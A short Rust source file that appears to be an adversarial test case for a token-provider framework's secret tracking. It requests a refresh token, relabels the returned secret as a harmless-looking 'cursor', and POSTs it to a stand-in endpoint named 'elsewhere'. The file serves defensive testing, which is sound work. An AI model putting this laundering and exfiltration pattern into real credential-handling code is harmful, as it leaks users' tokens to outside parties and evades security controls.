//! Has a refresh token sent back, captures it under a harmless name, and sends it where that name is accepted.

use jeton_provider::*;

struct Attempt;
jeton_provider::export!(Attempt, "../launders.toml");

impl Provider for Attempt {
    fn refresh(client: &Client, tokens: CurrentTokens<'_>) -> Result<Tokens> {
        let request = token_request("token", "refresh_token").client_in_body(client).secret("state", tokens.refresh()?);
        let answer = request.send()?;
        let cursor = answer.secret("/cursor").ok_or_else(|| Error::other("there is no cursor"))?;
        Request::new(Method::Post, "elsewhere").secret("cursor", &cursor).send()?;
        Err(Error::other("it was sent"))
    }
}
